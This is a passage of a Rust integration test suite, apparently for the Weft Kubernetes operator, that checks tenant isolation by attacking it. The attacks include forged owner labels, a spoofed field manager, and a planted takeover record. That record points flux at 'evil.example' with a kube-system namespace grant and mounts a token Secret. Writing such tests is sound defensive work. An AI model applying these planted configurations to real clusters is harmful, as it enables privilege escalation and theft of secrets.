//! Issue 30, items 1 and 2: tenants cannot borrow Weft's power through a WeaveCloud or a channel
//! bundle. Each test is an attack, driven as the attacker drives it, on the real control plane:
//! a tenant who may only create WeaveClouds and Secrets in their own namespace (a Role there,
//! used through impersonation, as `kubectl --as` does), or a channel the operator allowed that
//! lists more than it should. Each failed before the change it tests.
//!
//! - a tenant's WeaveCloud is not reconciled (no agents, no copy of kube-system's deploy key,
//!   not even with the root's owner label copied onto it) and says why in its status;
//! - a WeaveCloud in a watched namespace, not designated by `--launcher-takeover`, never reads,
//!   removes or copies anything in kube-system;
//! - cluster-scoped names of two namespaces never meet, and a second WeaveCloud never adopts the
//!   first one's agents (an error naming both);
//! - a bundle whose role grants more than its agent needs is refused before anything is applied;
//! - a rolled-back bundle leaves none of its objects behind;
//! - a channel's bundle URLs pass `--allowed-channels`: no `file://` read, no other port;
//! - (issue 48) a takeover record planted in the WeaveCloud's namespace changes nothing of the
//!   operator's flux; a WeaveCloud or ArmadaChart applied with the root's label and
//!   `--field-manager=weft` gets no finalizer, no reconcile and no metric series.
//!
//! Every tenant waits until the authorizer, asked as the tenant, says its grants are live
//! (tests/support/rbac.rs), so that a RoleBinding still on its way is never a 403.

/// Issue 48 item 8: events a tenant writes as Weft.
mod events;
/// Issue 48 item 6: hot loops, measured.
mod loops;
/// Issue 48 item 3: a rollback the API server partly forbids.
mod rollback;

use crate::support;
use crate::support::channel as channel_fixtures;

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use k8s_openapi::api::apps::v1::{DaemonSet, Deployment};
use k8s_openapi::api::core::v1::{Namespace, Secret};
use k8s_openapi::api::events::v1::Event;
use k8s_openapi::api::rbac::v1::{ClusterRole, ClusterRoleBinding, Role, RoleBinding};
use k8s_openapi::ByteString;
use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
use kube::{Api, Client, ResourceExt};
use serde_json::json;

use channel_fixtures::{broken_bundle_files, bundle_files, ChannelServer, Published};
use support::cluster::{create_token_secret, TestNamespace};
use support::conditions::ready;
use support::daemon::{Daemon, DaemonOptions};
use support::git_servers::{GitDaemon, RepoHost, WorkTree};
use support::manifests::weavecloud;
use support::rbac::{client_as, wait_until_granted, Access};
use support::wait::wait_for;
use weft::api::WeaveCloud;
use weft::daemon::namespaces::WatchNamespaces;
use weft::daemon::state::DaemonState;
use weft::daemon::status::DaemonStatus;
use weft::daemon::updater::{UpdateOptions, UpdateOutcome, Updater};
use weft::render::Owner;
use weft::source::fetch_policy::{ChannelPolicy, UrlAllowList};

const FLUX: &str = "weave-flux-agent";
const KUBE_SYSTEM: &str = "kube-system";
const DEPLOY_KEY: &str = "flux-git-deploy";

/// Tests that put launcher objects into kube-system (fixed names), and those whose WeaveClouds
/// they would hold, take turns.
static KUBE_SYSTEM_TURN: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// The rules of a tenant who may create WeaveClouds and Secrets in their namespace.
fn weavecloud_tenant_rules() -> serde_json::Value {
    json!([
        {"apiGroups": ["cloud.weave.works"], "resources": ["weaveclouds"], "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]},
        {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "create"]},
    ])
}

/// The tenant of `ns`: may create WeaveClouds and Secrets there, and nothing else anywhere.
async fn tenant_of(ns: &TestNamespace) -> Client {
    tenant_with(ns.name(), &ns.client(), weavecloud_tenant_rules()).await
}

/// User `tenant-<namespace>`, given `rules` in `namespace` (a Role and its RoleBinding, created
/// with `admin`) and nothing else anywhere; returned once the authorizer, asked as the tenant,
/// grants each rule's first verb (support::rbac).
async fn tenant_with(namespace: &str, admin: &Client, rules: serde_json::Value) -> Client {
    let user = format!("tenant-{namespace}");
    let role: Role = serde_json::from_value(json!({
        "metadata": {"name": "tenant"},
        "rules": rules,
    }))
    .unwrap();
    Api::<Role>::namespaced(admin.clone(), namespace)
        .create(&PostParams::default(), &role)
        .await
        .expect("tenant Role");
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": "tenant"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
    }))
    .unwrap();
    Api::<RoleBinding>::namespaced(admin.clone(), namespace)
        .create(&PostParams::default(), &binding)
        .await
        .expect("tenant RoleBinding");
    let tenant = client_as(&user).await;
    let granted: Vec<Access> = rules
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| {
            let group = r["apiGroups"][0].as_str().unwrap_or_default().to_string();
            let verb = r["verbs"][0].as_str().unwrap_or_default().to_string();
            r["resources"]
                .as_array()
                .unwrap()
                .iter()
                .map(move |res| {
                    let res = res.as_str().unwrap();
                    let resource = if group.is_empty() {
                        res.to_string()
                    } else {
                        format!("{res}.{group}")
                    };
                    Access::new(&verb, &resource, Some(namespace))
                })
                .collect::<Vec<_>>()
        })
        .collect();
    wait_until_granted(&tenant, &user, &granted).await;
    // The tenant really is limited to its namespace.
    let elsewhere: Api<Secret> = Api::namespaced(tenant.clone(), KUBE_SYSTEM);
    assert!(
        elsewhere.get_opt(DEPLOY_KEY).await.is_err(),
        "the tenant may not read kube-system"
    );
    tenant
}

/// The token Secret and a WeaveCloud (flux only unless `general`/`agents` say otherwise),
/// created with `client` in `ns`.
async fn create_weavecloud(client: &Client, ns: &str, name: &str, agents: serde_json::Value) {
    create_token_secret(client, ns, &format!("{name}-token"), "tenant-token").await;
    let mut spec = json!({
        "general": {"environment": "generic", "autoUpdate": false,
                    "tokenSecretRef": {"name": format!("{name}-token"), "key": "token"}},
        "scope": {"disable": true},
        "prometheus": {"disable": true},
    });
    json_patch::merge(&mut spec, &agents);
    let wc: WeaveCloud = serde_json::from_value(json!({
        "apiVersion": "cloud.weave.works/v1beta1",
        "kind": "WeaveCloud",
        "metadata": {"name": name, "namespace": ns},
        "spec": spec,
    }))
    .unwrap();
    Api::<WeaveCloud>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &wc)
        .await
        .expect("create the WeaveCloud");
}

/// A config repository holding one ConfigMap in `ns` (the operator's), served on loopback.
fn config_repo(ns: &str) -> (RepoHost, GitDaemon, String) {
    let host = RepoHost::new();
    let bare = host.create("config.git");
    let server = GitDaemon::start(&host);
    let work = WorkTree::new(&bare.display().to_string());
    work.write(
        "config/cm.yaml",
        format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: operator, namespace: {ns}}}\ndata: {{k: v}}\n"),
    );
    work.commit("the operator's config");
    work.push();
    let url = server.url("config.git");
    (host, server, url)
}

fn start_daemon(url: &str, ns: &str, extra: Vec<String>) -> Daemon {
    Daemon::start(DaemonOptions {
        controllers: true,
        extra,
        ..DaemonOptions::new(url, ns)
    })
}

/// Put a Secret `flux-git-deploy` with data into kube-system unless one is there; `true` when
/// this test made it (and so removes it).
async fn kube_system_deploy_key(client: &Client) -> (bool, BTreeMap<String, ByteString>) {
    let api: Api<Secret> = Api::namespaced(client.clone(), KUBE_SYSTEM);
    if let Some(s) = api.get_opt(DEPLOY_KEY).await.unwrap() {
        if s.data.as_ref().is_some_and(|d| !d.is_empty()) {
            return (false, s.data.unwrap());
        }
        let _ = api.delete(DEPLOY_KEY, &DeleteParams::default()).await;
    }
    let data: BTreeMap<String, ByteString> = [(
        "identity".to_string(),
        ByteString(b"-----BEGIN kube-system's deploy key (attack test)-----".to_vec()),
    )]
    .into();
    let secret = Secret {
        metadata: kube::api::ObjectMeta {
            name: Some(DEPLOY_KEY.into()),
            ..Default::default()
        },
        data: Some(data.clone()),
        ..Default::default()
    };
    api.create(&PostParams::default(), &secret).await.unwrap();
    (true, data)
}

#[tokio::test]
async fn a_tenant_weavecloud_is_not_reconciled_and_says_why() {
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let ns = TestNamespace::new("attack-tenant-wc").await;
    let admin = ns.client();
    support::cluster::install_crds(&admin).await;
    let (made_key, _) = kube_system_deploy_key(&admin).await;
    let tenant = tenant_of(&ns).await;
    create_weavecloud(&tenant, ns.name(), "weave-cloud", json!({})).await;

    // The operator's daemon, as installed: no --watch-namespaces.
    let (_host, _server, url) = config_repo(ns.name());
    let d = start_daemon(&url, ns.name(), Vec::new());
    let wcs: Api<WeaveCloud> = ns.api();
    let (status, reason, message) = wait_for(
        "the tenant's WeaveCloud says it is not reconciled",
        Duration::from_secs(60),
        &|| d.logs(),
        async || ready(&wcs.get("weave-cloud").await.ok()?),
    )
    .await;
    assert_eq!(
        (status.as_str(), reason.as_str()),
        ("False", "NotReconciled"),
        "{message}"
    );
    assert!(message.contains("config repository"), "{message}");
    eprintln!("tenant WeaveCloud: Ready=False NotReconciled: {message}");

    // The tenant copies the root's owner label onto it: still not the operator's.
    let root = Owner::root(ns.name(), ns.name());
    Api::<WeaveCloud>::namespaced(tenant.clone(), ns.name())
        .patch(
            "weave-cloud",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"labels": {"weft.io/owner": root.id().0}}})),
        )
        .await
        .expect("the tenant labels its WeaveCloud");
    tokio::time::sleep(Duration::from_secs(5)).await;
    let deployments: Api<Deployment> = ns.api();
    assert!(
        deployments.get_opt(FLUX).await.unwrap().is_none(),
        "no flux agent for a tenant\n{}",
        d.logs()
    );
    assert!(
        ns.api::<Secret>()
            .get_opt(DEPLOY_KEY)
            .await
            .unwrap()
            .is_none(),
        "kube-system's deploy key was not copied to the tenant"
    );
    let roles: Api<ClusterRole> = Api::all(admin.clone());
    for name in [
        format!("weave-flux:{}", ns.name()),
        format!("weave-flux-{}", ns.name()),
    ] {
        assert!(roles.get_opt(&name).await.unwrap().is_none(), "{name}");
    }
    let wc = wcs.get("weave-cloud").await.unwrap();
    assert!(
        !wc.finalizers().iter().any(|f| f == "weft.io/agents"),
        "no finalizer on a WeaveCloud Weft does not reconcile"
    );
    let events: Api<Event> = ns.api();
    let notes: Vec<String> = events
        .list(&Default::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|e| e.reason.as_deref() == Some("NotReconciled"))
        .filter_map(|e| e.note)
        .collect();
    assert!(!notes.is_empty(), "an event says why");
    drop(d);
    if made_key {
        let _ = Api::<Secret>::namespaced(admin.clone(), KUBE_SYSTEM)
            .delete(DEPLOY_KEY, &DeleteParams::default())
            .await;
    }
    ns.delete().await;
}

/// A config repository holding `files` (path, text), served on loopback.
fn config_repo_with(files: &[(&str, String)]) -> (RepoHost, GitDaemon, String) {
    let host = RepoHost::new();
    let bare = host.create("config.git");
    let server = GitDaemon::start(&host);
    let work = WorkTree::new(&bare.display().to_string());
    for (path, text) in files {
        work.write(path, text.clone());
    }
    work.commit("the operator's config");
    work.push();
    let url = server.url("config.git");
    (host, server, url)
}

/// `GET /metrics` of `d`.
async fn metrics(d: &Daemon) -> String {
    reqwest::get(format!("{}/metrics", d.base()))
        .await
        .expect("GET /metrics")
        .text()
        .await
        .expect("metrics body")
}

/// Issue 48 item 1: a user who may only create ConfigMaps in the namespace of the operator's
/// WeaveCloud plants a takeover record there, as an earlier Weft wrote it (its name, its two
/// labels): flux's git URL, `--k8s-allow-namespace`, `--git-readonly` and a Secret volume. The
/// operator's flux, which holds every right in the cluster, runs with none of it: records are
/// read only from Weft's namespace, where the tenant may write nothing. The WeaveCloud's status
/// says the planted ConfigMap is not read.
#[tokio::test]
async fn a_planted_takeover_record_changes_nothing_of_the_operator_s_flux() {
    // A launcher flux another test puts into kube-system holds every undesignated
    // WeaveCloud (issue 44 item 2): not at the same time.
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let weft_ns = TestNamespace::new("attack-record").await;
    let admin = weft_ns.client();
    support::cluster::install_crds(&admin).await;
    let agents = TestNamespace::new("attack-record-wc").await;
    let n = agents.name().to_string();
    create_token_secret(&agents.client(), &n, "weave-cloud-token", "operator-token").await;
    let tenant = tenant_with(
        &n,
        &admin,
        json!([{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create", "get"]}]),
    )
    .await;
    let planted_record = json!({
        "fluxArgs": [
            "--git-url=ssh://git@evil.example/attacker/cluster.git",
            "--k8s-allow-namespace=kube-system",
            "--git-readonly=false",
        ],
        "volumes": [{"name": "planted", "secret": {"secretName": "weave-cloud-token"}}],
        "volumeMounts": [{"name": "planted", "mountPath": "/planted"}],
    });
    let planted = |namespace: &str, name: &str| -> k8s_openapi::api::core::v1::ConfigMap {
        serde_json::from_value(json!({
            "metadata": {"name": name, "namespace": namespace, "labels": {
                "app.kubernetes.io/managed-by": "weft",
                "weft.io/takeover-record-of": "weave-cloud",
            }},
            "data": {"record.json": planted_record.to_string()},
        }))
        .unwrap()
    };
    Api::<k8s_openapi::api::core::v1::ConfigMap>::namespaced(tenant.clone(), &n)
        .create(
            &PostParams::default(),
            &planted(&n, "weft-takeover-weave-cloud"),
        )
        .await
        .expect("the tenant plants a record in the WeaveCloud's namespace");
    // Where records are read from now, the tenant may write nothing.
    let in_weft_ns =
        Api::<k8s_openapi::api::core::v1::ConfigMap>::namespaced(tenant.clone(), weft_ns.name())
            .create(
                &PostParams::default(),
                &planted(weft_ns.name(), &format!("weft-takeover-{n}.weave-cloud")),
            )
            .await;
    assert!(
        matches!(&in_weft_ns, Err(kube::Error::Api(e)) if e.code == 403),
        "the tenant may not write in Weft's namespace: {in_weft_ns:?}"
    );

    // The operator's WeaveCloud, applied by the root; flux's git settings left unset, so a
    // record's would be used.
    let wc = weavecloud(&n)
        .auto_update(false)
        .token("weave-cloud-token", Some("token"))
        .only_flux()
        .yaml();
    let (_host, _server, url) = config_repo_with(&[("weave/weave-cloud.yaml", wc)]);
    let d = start_daemon(&url, weft_ns.name(), Vec::new());
    let deployments: Api<Deployment> = agents.api();
    let flux = wait_for(
        "the operator's flux agent is applied",
        Duration::from_secs(120),
        &|| d.logs(),
        async || deployments.get_opt(FLUX).await.ok().flatten(),
    )
    .await;
    let pod = flux.spec.unwrap().template.spec.unwrap();
    let args = pod.containers[0].args.clone().unwrap_or_default();
    for planted_flag in ["evil.example", "--k8s-allow-namespace", "--git-readonly"] {
        assert!(
            !args.iter().any(|a| a.contains(planted_flag)),
            "the planted record's {planted_flag} reached the operator's flux: {args:?}"
        );
    }
    let volumes = pod.volumes.unwrap_or_default();
    assert!(
        !volumes.iter().any(|v| v.name == "planted"),
        "the planted Secret volume reached the operator's flux: {volumes:?}"
    );
    let wcs: Api<WeaveCloud> = agents.api();
    let dropped = wait_for(
        "status.flux.dropped says the planted record is not read",
        Duration::from_secs(60),
        &|| d.logs(),
        async || {
            let dropped = wcs.get("weave-cloud").await.ok()?.status?.flux?.dropped;
            dropped.into_iter().find(|x| {
                x.contains(&format!(
                    "takeover record {n}/weft-takeover-weave-cloud (not read"
                ))
            })
        },
    )
    .await;
    eprintln!("status.flux.dropped: {dropped}");
    drop(d);
    let _ = wcs
        .patch(
            "weave-cloud",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
        )
        .await;
    remove_flux_rbac(&admin, &n).await;
    agents.delete().await;
    weft_ns.delete().await;
}

/// The cluster-scoped RBAC Weft renders for a flux in `namespace`.
async fn remove_flux_rbac(admin: &Client, namespace: &str) {
    let name = format!("weave-flux:{namespace}");
    let _ = Api::<ClusterRoleBinding>::all(admin.clone())
        .delete(&name, &DeleteParams::default())
        .await;
    let _ = Api::<ClusterRole>::all(admin.clone())
        .delete(&name, &DeleteParams::default())
        .await;
}

/// Issue 48 item 2: a tenant applies a WeaveCloud and ArmadaCharts exactly as the root's apply
/// writes them — the root's owner label, `kubectl apply --server-side --field-manager=weft` —
/// in the tenant's own namespace. A field manager's name is not an identity: none of them is in
/// the root's inventory (in Weft's namespace), so none gets a finalizer, a reconcile (no agents,
/// no pass) or a metric series; the WeaveCloud says why.
#[tokio::test]
async fn a_weavecloud_and_charts_forged_with_the_root_s_field_manager_are_not_the_root_s() {
    // A launcher flux another test puts into kube-system holds every undesignated
    // WeaveCloud (issue 44 item 2): not at the same time.
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let weft_ns = TestNamespace::new("attack-forged").await;
    let admin = weft_ns.client();
    support::cluster::install_crds(&admin).await;
    let tenant_ns = TestNamespace::new("attack-forged-t").await;
    let t = tenant_ns.name().to_string();
    let tenant = tenant_with(
        &t,
        &admin,
        json!([
            {"apiGroups": ["cloud.weave.works"], "resources": ["weaveclouds"], "verbs": ["patch", "create", "get"]},
            {"apiGroups": ["armada.airshipit.org"], "resources": ["armadacharts"], "verbs": ["patch", "create", "get"]},
            {"apiGroups": [""], "resources": ["secrets"], "verbs": ["create", "get"]},
        ]),
    )
    .await;
    let root = Owner::root(weft_ns.name(), weft_ns.name());
    let labels = json!({"app.kubernetes.io/managed-by": "weft", "weft.io/owner": root.id().0});
    let as_weft = PatchParams::apply("weft").force();
    let token: Secret = serde_json::from_value(json!({
        "metadata": {"name": "weave-cloud-token"},
        "stringData": {"token": "tenant-token"},
    }))
    .unwrap();
    Api::<Secret>::namespaced(tenant.clone(), &t)
        .create(&PostParams::default(), &token)
        .await
        .expect("the tenant's token Secret");
    let wc = json!({
        "apiVersion": "cloud.weave.works/v1beta1", "kind": "WeaveCloud",
        "metadata": {"name": "weave-cloud", "namespace": t, "labels": labels,
                     "annotations": {"weft.io/owner-ref": format!("Root/{}", weft_ns.name())}},
        "spec": {"general": {"environment": "generic", "autoUpdate": false,
                             "tokenSecretRef": {"name": "weave-cloud-token", "key": "token"}},
                 "scope": {"disable": true}, "prometheus": {"disable": true}},
    });
    let wcs: Api<WeaveCloud> = Api::namespaced(tenant.clone(), &t);
    wcs.patch("weave-cloud", &as_weft, &Patch::Apply(&wc))
        .await
        .expect("the tenant applies a WeaveCloud as manager weft");
    let chart_api = kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
        "armada.airshipit.org",
        "v1alpha1",
        "ArmadaChart",
    ));
    let charts: Api<kube::api::DynamicObject> =
        Api::namespaced_with(tenant.clone(), &t, &chart_api);
    let chart_names: Vec<String> = (0..3).map(|i| format!("forged-{i}")).collect();
    for name in &chart_names {
        let chart = json!({
            "apiVersion": "armada.airshipit.org/v1alpha1", "kind": "ArmadaChart",
            "metadata": {"name": name, "namespace": t, "labels": labels},
            "spec": {"chart_name": name, "release": name, "namespace": t,
                     "source": {"type": "local", "location": "charts/app"}},
        });
        charts
            .patch(name, &as_weft, &Patch::Apply(&chart))
            .await
            .expect("the tenant applies an ArmadaChart as manager weft");
    }
    // The managedFields are the root's apply's, to the letter.
    let forged = wcs.get("weave-cloud").await.unwrap();
    assert!(forged
        .metadata
        .managed_fields
        .iter()
        .flatten()
        .any(|m| m.manager.as_deref() == Some("weft") && m.operation.as_deref() == Some("Apply")));

    let (_host, _server, url) = config_repo(weft_ns.name());
    let d = start_daemon(&url, weft_ns.name(), Vec::new());
    let has_finalizer =
        |meta: &kube::api::ObjectMeta, f: &str| meta.finalizers.iter().flatten().any(|x| x == f);
    // The WeaveCloud is decided on: it says why not, or (before the change) got the finalizer.
    let wc = wait_for(
        "the forged WeaveCloud is decided on",
        Duration::from_secs(90),
        &|| d.logs(),
        async || {
            let wc = wcs.get("weave-cloud").await.ok()?;
            (ready(&wc).is_some() || has_finalizer(&wc.metadata, "weft.io/agents")).then_some(wc)
        },
    )
    .await;
    assert!(
        !has_finalizer(&wc.metadata, "weft.io/agents"),
        "the forged WeaveCloud got Weft's finalizer\n{}",
        d.logs()
    );
    let (status, reason, message) = ready(&wc).unwrap();
    assert_eq!(
        (status.as_str(), reason.as_str()),
        ("False", "NotReconciled"),
        "{message}"
    );
    eprintln!("forged WeaveCloud: {message}");
    // Each chart is decided on: ignored (said in the daemon's debug log), or given the finalizer.
    for name in &chart_names {
        let shown = format!("{t}/{name}");
        let chart = wait_for(
            &format!("the forged chart {name} is decided on"),
            Duration::from_secs(90),
            &|| d.logs(),
            async || {
                let chart = charts.get(name).await.ok()?;
                let ignored = d.logs().lines().any(|l| {
                    l.contains("not applied by this installation's root") && l.contains(&shown)
                });
                (ignored || has_finalizer(&chart.metadata, "weft.io/armada-chart")).then_some(chart)
            },
        )
        .await;
        assert!(
            !has_finalizer(&chart.metadata, "weft.io/armada-chart"),
            "the forged chart {name} got Weft's finalizer"
        );
    }
    let scraped = metrics(&d).await;
    let series: Vec<&str> = scraped
        .lines()
        .filter(|l| l.contains(&format!("namespace=\"{t}\"")))
        .collect();
    assert!(
        series.is_empty(),
        "metric series of resources that are not Weft's: {series:#?}"
    );
    assert!(
        ns_deployments(&admin, &t).await.is_empty(),
        "no agent for a forged WeaveCloud"
    );
    assert!(
        Api::<ClusterRole>::all(admin.clone())
            .get_opt(&format!("weave-flux:{t}"))
            .await
            .unwrap()
            .is_none(),
        "no flux role for a forged WeaveCloud"
    );
    drop(d);
    let admin_wcs: Api<WeaveCloud> = Api::namespaced(admin.clone(), &t);
    let _ = admin_wcs
        .patch(
            "weave-cloud",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
        )
        .await;
    let admin_charts: Api<kube::api::DynamicObject> =
        Api::namespaced_with(admin.clone(), &t, &chart_api);
    for name in &chart_names {
        let _ = admin_charts
            .patch(
                name,
                &PatchParams::default(),
                &Patch::Merge(json!({"metadata": {"finalizers": null}})),
            )
            .await;
    }
    remove_flux_rbac(&admin, &t).await;
    tenant_ns.delete().await;
    weft_ns.delete().await;
}

/// The names of the Deployments in `namespace`.
async fn ns_deployments(admin: &Client, namespace: &str) -> Vec<String> {
    Api::<Deployment>::namespaced(admin.clone(), namespace)
        .list(&Default::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .map(|d| d.name_any())
        .collect()
}

/// A launcher flux agent in kube-system, labelled as the launcher labelled it.
fn launcher_flux() -> Deployment {
    serde_json::from_value(json!({
        "metadata": {"name": FLUX, "labels": {"name": FLUX, "app": "weave-flux", "weave-cloud-component": "flux"}},
        "spec": {
            "selector": {"matchLabels": {"name": FLUX}},
            "template": {
                "metadata": {"labels": {"name": FLUX, "app": "weave-flux", "weave-cloud-component": "flux"}},
                "spec": {"containers": [{
                    "name": "flux",
                    "image": "docker.io/weaveworks/flux:1.4.0",
                    "args": ["--git-url=git@kube-system.example:operator/secret-repo.git", "--git-poll-interval=7m"]
                }]}
            }
        }
    }))
    .unwrap()
}

#[tokio::test]
async fn a_watched_but_undesignated_weavecloud_never_touches_kube_system() {
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let ns = TestNamespace::new("attack-ks").await;
    let admin = ns.client();
    support::cluster::install_crds(&admin).await;
    let ks_deployments: Api<Deployment> = Api::namespaced(admin.clone(), KUBE_SYSTEM);
    let _ = ks_deployments
        .delete(FLUX, &DeleteParams::background())
        .await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    ks_deployments
        .create(&PostParams::default(), &launcher_flux())
        .await
        .expect("the launcher's flux in kube-system");
    let (made_key, ks_key) = kube_system_deploy_key(&admin).await;
    let tenant = tenant_of(&ns).await;
    create_weavecloud(&tenant, ns.name(), "weave-cloud", json!({})).await;

    // The operator trusts the namespace (--watch-namespaces), and designates no takeover.
    let (_host, _server, url) = config_repo(ns.name());
    let d = start_daemon(
        &url,
        ns.name(),
        vec!["--watch-namespaces".into(), ns.name().to_string()],
    );
    // Issue 44 item 2: an undesignated WeaveCloud beside the launcher's kube-system agents
    // applies none of its own (they would run twice) and says which flag takes them over.
    let wcs: Api<WeaveCloud> = ns.api();
    let message = wait_for(
        "the tenant's WeaveCloud says the launcher runs in kube-system",
        Duration::from_secs(90),
        &|| d.logs(),
        async || {
            let wc = wcs.get_opt("weave-cloud").await.ok()??;
            let ready = wc
                .status?
                .conditions
                .into_iter()
                .find(|c| c.type_ == "Ready")?;
            (ready.reason == "LauncherInKubeSystem").then_some(ready.message)
        },
    )
    .await;
    assert!(
        message.contains(&format!("--launcher-takeover {}/weave-cloud", ns.name())),
        "{message}"
    );
    let deployments: Api<Deployment> = ns.api();
    if let Some(flux) = deployments.get_opt(FLUX).await.unwrap() {
        let args = flux.spec.unwrap().template.spec.unwrap().containers[0]
            .args
            .clone()
            .unwrap_or_default();
        assert!(
            !args
                .iter()
                .any(|a| a.contains("kube-system.example") || a == "--git-poll-interval=7m"),
            "kube-system's flux arguments were read into the tenant's agent: {args:?}"
        );
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert!(
        ks_deployments.get_opt(FLUX).await.unwrap().is_some(),
        "kube-system's flux agent was deleted for a tenant's WeaveCloud\n{}",
        d.logs()
    );
    let copied = ns.api::<Secret>().get_opt(DEPLOY_KEY).await.unwrap();
    assert!(
        copied.and_then(|s| s.data).unwrap_or_default() != ks_key,
        "kube-system's deploy key was copied into the tenant's namespace"
    );
    drop(d);
    let _ = ks_deployments
        .delete(FLUX, &DeleteParams::background())
        .await;
    if made_key {
        let _ = Api::<Secret>::namespaced(admin.clone(), KUBE_SYSTEM)
            .delete(DEPLOY_KEY, &DeleteParams::default())
            .await;
    }
    ns.delete().await;
}

fn owner_ref(meta: &kube::api::ObjectMeta) -> Option<String> {
    meta.annotations.as_ref()?.get("weft.io/owner-ref").cloned()
}

#[tokio::test]
async fn cluster_scoped_names_never_collide_and_another_owner_s_agents_are_never_adopted() {
    // A launcher flux another test puts into kube-system holds every undesignated
    // WeaveCloud (issue 44 item 2): not at the same time.
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let a = TestNamespace::new("attack-names").await;
    let admin = a.client();
    support::cluster::install_crds(&admin).await;
    // The namespace `cluster-agent-<a>`: with `<name>-<namespace>`, its `weave-scope` binding
    // was `weave-scope-cluster-agent-<a>`, the cluster agent's binding of namespace <a>.
    let b = format!("cluster-agent-{}", a.name());
    let namespaces: Api<Namespace> = Api::all(admin.clone());
    let b_ns: Namespace = serde_json::from_value(json!({
        "metadata": {"name": b, "labels": {"weft.test/namespace": "true"}}
    }))
    .unwrap();
    namespaces
        .create(&PostParams::default(), &b_ns)
        .await
        .expect("namespace b");
    let scope_only = json!({"scope": {"disable": false}, "flux": {"disable": true}});
    create_weavecloud(&admin, a.name(), "weave-cloud", scope_only.clone()).await;
    create_weavecloud(&admin, &b, "weave-cloud", scope_only.clone()).await;
    let (_host, _server, url) = config_repo(a.name());
    let d = start_daemon(
        &url,
        a.name(),
        vec!["--watch-namespaces".into(), format!("{},{b}", a.name())],
    );
    let bindings: Api<ClusterRoleBinding> = Api::all(admin.clone());
    let mine = format!("weave-scope-cluster-agent:{}", a.name());
    let theirs = format!("weave-scope:{b}");
    for (name, owner) in [
        (mine.clone(), format!("WeaveCloud/{}/weave-cloud", a.name())),
        (theirs.clone(), format!("WeaveCloud/{b}/weave-cloud")),
    ] {
        let binding = wait_for(
            &format!("ClusterRoleBinding {name}"),
            Duration::from_secs(90),
            &|| d.logs(),
            async || bindings.get_opt(&name).await.ok().flatten(),
        )
        .await;
        assert_eq!(owner_ref(&binding.metadata), Some(owner.clone()), "{name}");
    }
    // Neither took the other's: the old collision name is nobody's agent binding.
    let old = format!("weave-scope-cluster-agent-{}", a.name());
    assert!(bindings.get_opt(&old).await.unwrap().is_none(), "{old}");

    // A second WeaveCloud in namespace a names the same agents: never adopted.
    create_weavecloud(&admin, a.name(), "weave-cloud-2", scope_only).await;
    let wcs: Api<WeaveCloud> = a.api();
    let (status, reason, message) = wait_for(
        "the second WeaveCloud says whose the agents are",
        Duration::from_secs(60),
        &|| d.logs(),
        // Another test's daemon, which does not watch this namespace, may say NotReconciled
        // first (while no Ready is there); this test's daemon then writes its own verdict.
        async || {
            ready(&wcs.get("weave-cloud-2").await.ok()?).filter(|(_, r, _)| r != "NotReconciled")
        },
    )
    .await;
    assert_eq!(
        (status.as_str(), reason.as_str()),
        ("False", "OwnedByAnotherOwner"),
        "{message}"
    );
    assert!(
        message.contains(&format!("WeaveCloud/{}/weave-cloud,", a.name()))
            || message.contains(&format!("belongs to WeaveCloud/{}/weave-cloud", a.name())),
        "{message}"
    );
    assert!(
        message.contains(&format!("WeaveCloud/{}/weave-cloud-2", a.name())),
        "{message}"
    );
    eprintln!("second WeaveCloud: {message}");
    let daemonsets: Api<DaemonSet> = a.api();
    let probe = daemonsets.get("weave-scope-agent").await.unwrap();
    assert_eq!(
        owner_ref(&probe.metadata),
        Some(format!("WeaveCloud/{}/weave-cloud", a.name())),
        "the first WeaveCloud's probe is still its own"
    );
    drop(d);
    for wc in ["weave-cloud", "weave-cloud-2"] {
        let _ = wcs
            .patch(
                wc,
                &PatchParams::default(),
                &Patch::Merge(json!({"metadata": {"finalizers": null}})),
            )
            .await;
    }
    let b_wcs: Api<WeaveCloud> = Api::namespaced(admin.clone(), &b);
    let _ = b_wcs
        .patch(
            "weave-cloud",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
        )
        .await;
    let roles: Api<ClusterRole> = Api::all(admin.clone());
    for ns in [a.name(), b.as_str()] {
        for n in ["weave-scope", "weave-scope-cluster-agent"] {
            let _ = bindings
                .delete(&format!("{n}:{ns}"), &DeleteParams::default())
                .await;
            let _ = roles
                .delete(&format!("{n}:{ns}"), &DeleteParams::default())
                .await;
        }
    }
    let _ = namespaces.delete(&b, &DeleteParams::background()).await;
    a.delete().await;
}

// ---- channel bundles: the operator allowed a channel; what it lists is still held to policy ----

/// A namespace with the token Secret and a flux-only WeaveCloud on `channel`, made by the
/// operator (the tests below attack through the channel, not the WeaveCloud).
async fn channel_weavecloud(prefix: &str, channel: &str) -> (TestNamespace, WeaveCloud) {
    let ns = TestNamespace::new(prefix).await;
    support::cluster::install_crds(&ns.client()).await;
    create_weavecloud(
        &ns.client(),
        ns.name(),
        "weave-cloud",
        json!({"general": {"wcPollUrl": channel, "autoUpdate": true}}),
    )
    .await;
